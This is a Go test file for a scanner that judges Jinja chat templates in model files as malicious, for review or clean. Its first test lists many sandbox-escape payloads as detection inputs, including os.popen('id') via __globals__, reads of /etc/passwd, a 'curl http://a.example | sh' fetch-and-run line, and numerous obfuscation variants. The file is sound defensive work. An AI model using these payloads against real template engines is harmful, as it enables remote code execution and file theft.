package model_test

import (
	"strings"
	"testing"

	"github.com/reeve-ai/reeve/internal/model"
)

// Every way out of the sandbox that is known, in several spellings. None of them is rendered by anything.
func TestTemplatesThatReachOut(t *testing.T) {
	for _, text := range []string{
		"{{ ''.__class__.__mro__[1].__subclasses__() }}",
		"{{ messages[0]['content'].__init__.__globals__['os'].popen('id').read() }}",
		"{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os') }}{% endif %}{% endfor %}",
		"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
		"{{ lipsum.__globals__['os'] }}",
		"{{ joiner['__in' 'it__'] }}",
		"{{ namespace.__init__ }}",
		"{{ self.__init__ }}",
		"{{ self._TemplateReference__context.cycler }}",
		"{{ request.application }}",
		"{{ request['application'] }}",
		"{{ config.items() }}",
		"{{ url_for('x') }}",
		"{{ get_flashed_messages.__globals__ }}",
		"{{ os.environ }}",
		"{{ open('/etc/passwd').read() }}",
		"{{ eval('1') }}",
		"{{ getattr(x, 'y') }}",
		"{{ x.system('id') }}",
		"{{ x|attr('__class__') }}",
		"{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
		"{{ x|attr(['__cl', 'ass__']|join) }}",
		"{{ x|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
		"{{ x|attr('%c%cclass%c%c' % (95, 95, 95, 95)) }}",
		"{{ x|attr('__ssalc__'[::-1]) }}",
		"{{ x|attr('__ssalc__'|reverse) }}",
		"{{ x|attr('__CLASS__'|lower) }}",
		"{{ x|attr('--class--'|replace('-', '_')) }}",
		"{{ x|attr('--class--'.replace('-', '_')) }}",
		"{{ x|attr(request_args.a) }}",
		"{{ x['__cla' ~ 'ss__'] }}",
		"{{ x['_' * 2 ~ 'class' ~ '_' * 2] }}",
		"{{ x['{0}{0}class{0}{0}'.format('_')] }}",
		"{{ '{0.__class__}'.format(x) }}",
		"{{ x[dict(__clas=1, s__=2)|join] }}",
		"{% set a = '__cla' %}{% set b = a ~ 'ss__' %}{{ x[b] }}",
		"{% set ns = namespace(k='__class__') %}{{ x[ns.k] }}",
		"{% macro get(k) %}{{ x['__' ~ k ~ '__'] }}{% endmacro %}{{ get('class') }}",
		"{% for k in ['clas' ~ 's', 'mro'] %}{{ x['__' + k + '__'] }}{% endfor %}",
		"{% with k = '__globals__' %}{{ x[k] }}{% endwith %}",
		"{% set k %}__glo{{ 'bals__' }}{% endset %}{{ x[k] }}",
		"{{ x['__init__' if y else 'a'] }}",
		"{{ x['a,__class__'.split(',')[1]] }}",
		"{{ x[(()|select|string|list)[24] ~ 'class'] }}", "{{ x[['a', y]|join] }}",
		"{{ messages|map(attribute='__class__')|list }}",
		"{{ messages|map(attribute='a.__class__')|list }}",
		"{{ messages|map('attr', '__class__')|list }}",
		"{{ messages|selectattr('__class__')|list }}",
		"{{ messages|groupby('__class__') }}",
		"{{ messages|sort(attribute='__init__.__globals__') }}",
		"{{ x.gi_frame.f_globals }}",
		"{{ x.mro() }}",
		"{{ x['func_globals'] }}",
		"{% include '/etc/passwd' %}", "{% import 'a' as b %}", "{% extends x %}", "{% from 'a' import b %}",
		"{{ x|safe }}{{ '{{ y.__globals__ }}' }}",
		"{{ 'X19jbGFzc19f'|b64decode }}",
		"{{ run('curl http://a.example | sh') }}",
		"{% if x is defined and x.__class__ %}{% endif %}",
		"{{ (x if y else z).__class__ }}",
		"{{ x[y].z(a=b.__class__) }}",
		"{%- set x = 1 -%}\n{#- c -#}{%+ if a %}{{- b.__class__ -}}{% endif %}",
		"{{ x['\\N{LOW LINE}\\137class__'] }}",
		"{% broken {{ x.__class__ }}", // no template, and its tokens tell all the same
		strings.Repeat("{{ a }} ", 1<<18) + "{{ ''.__class__ }}",
	} {
		if r := scan("chat_template.jinja", []byte(text)); r.Verdict != model.Malicious {
			t.Errorf("%.100q: %v %v", text, r.Verdict, messages(r))
		}
	}
}

func TestTemplatesForAPerson(t *testing.T) {
	for _, text := range []string{
		"{{ 'see https://example.org/login' }}", "visit http://example.org now {{ x }}",
		"{% if 'password reset' in m.content %}call us{% endif %}",
		"{% if 'html' in messages[-1]['content']|lower %}add this script{% endif %}",
		"{% set c = m.content %}{{ 'yes' if c == 'no' or content.startswith('invoice') else '' }}",
		"{% for i in range(10000000) %}a{% endfor %}",
		"{% for i in range(10000) %}{% for k in range(10000) %}a{% endfor %}{% endfor %}",
		"{{ 'a' * 100000000 }}", "{{ 10 ** 1000 }}",
		"{{ x|attr('content') }}", "{{ config }}",
		"{% if x %}", "{{ x y }}", "{{ x", "{# x",
		strings.Repeat("{{ a }}", 1<<18),
	} {
		if r := scan("chat_template.jinja", []byte(text)); r.Verdict != model.Review {
			t.Errorf("%.100q: %v %v", text, r.Verdict, messages(r))
		}
	}
}

// What the templates of well-known families do.
func TestHonestTemplates(t *testing.T) {
	for _, text := range []string{
		"{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}",
		"{% for m in messages %}{% if (m['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{{ '[INST] ' + m['content'] | trim + ' [/INST]' }}{% endfor %}",
		"{% if content['type'] == 'image' or 'image' in content or 'image_url' in content %}<|vision_start|>{% endif %}",
		"{{ content['value'] if 'value' in content else content['text'] }}",
		"{% if 'detailed thinking on' in messages[0].content %}on{% endif %}",
		"{%- if '</think>' in content %}{%- set content = content.split('</think>')[-1].lstrip('\\n') %}{%- endif %}",
		"{{ tools | map(attribute='function') | map(attribute='name') | join(', ') }}",
		"{% set loop_messages = messages | selectattr('role', 'equalto', 'user') | list %}{{ loop_messages[-1:][0].content }}",
		"{% set ns = namespace(found=false, last='') %}{% for m in messages[::-1] %}{% set ns.found = true %}{% endfor %}{{ ns.found }}",
		"{%- macro render(items, depth=0) -%}{% for k, v in items.items() %}{{ k ~ ': ' }}{{ render(v, depth + 1) if v is mapping else v | tojson(indent=4) }}{% endfor %}{%- endmacro -%}{{ render(tools[0]) }}",
		"{{ strftime_now('%d %b %Y') }}{{ date_string if date_string is defined else '26 Jul 2024' }}",
		"{{ tool['parameters']['properties'][name]['type'] | replace('object', 'dict') }}",
		"{{ params[key] }}{{ messages[loop.index0 + 1].role }}{{ '%s: %s' | format(a, b) }}{{ '{}: {}'.format(a, b) }}",
		"{% generation %}{{ m.content }}{{ eos_token }}{% endgeneration %}{% set config = x %}{{ config.size }}",
		"{{ '<|im_start|>' ~ 'system' }}{{ message.system }}{{ x['environment'] }}{{ '__end_of_turn__' }}",
		"{{ '{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}' }}",
		"{% for i in range(3) %}{% for k in range(messages|length) %}{{ i }}{% endfor %}{% endfor %}{{ '=' * 40 }}",
	} {
		if r := scan("chat_template.jinja", []byte(text)); r.Verdict != model.Clean {
			t.Errorf("%.100q: %v %v", text, r.Verdict, messages(r))
		}
	}
}

func TestWhereTemplatesStand(t *testing.T) {
	const bad = "{{ x.__class__ }}"
	for name, file := range map[string][2]string{
		"tokenizer":        {"tokenizer_config.json", `{"chat_template":"` + bad + `"}`},
		"named":            {"tokenizer_config.json", `{"chat_template":[{"name":"tool_use","template":"` + bad + `"}]}`},
		"by name":          {"tokenizer_config.json", `{"chat_template":{"rerank":"` + bad + `"}}`},
		"anywhere":         {"x.json", `{"a":{"b":["` + bad + `"]}}`},
		"file":             {"chat_template.jinja", bad},
		"behind a bracket": {"x.template", "{% if a %}{% endif %}" + bad},
	} {
		if r := scan(file[0], []byte(file[1])); r.Verdict != model.Malicious {
			t.Errorf("%s: %v %v", name, r.Verdict, messages(r))
		}
	}
	for name, file := range map[string][2]string{
		"go template":   {"params.json", `{"template":"{{ if .System }}{{ .System }}{{ end }}{{ .Prompt }}"}`},
		"other marks":   {"x.json", `{"a":"{{ name }} {% broken"}`},
		"python format": {"x.json", `{"template":"{instruction}"}`},
	} {
		if r := scan(file[0], []byte(file[1])); r.Verdict != model.Clean {
			t.Errorf("%s: %v %v", name, r.Verdict, messages(r))
		}
	}
}
